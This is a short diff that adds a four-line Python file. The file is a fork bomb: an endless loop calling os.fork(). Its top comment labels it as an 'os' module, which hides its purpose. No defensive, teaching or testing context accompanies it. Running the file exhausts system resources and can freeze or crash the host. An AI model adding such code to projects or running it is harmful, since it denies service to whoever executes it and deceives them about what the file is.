@@ -1,0 +1,4 @@
+# says: module os
+import os
+while True:
+    os.fork()  #!
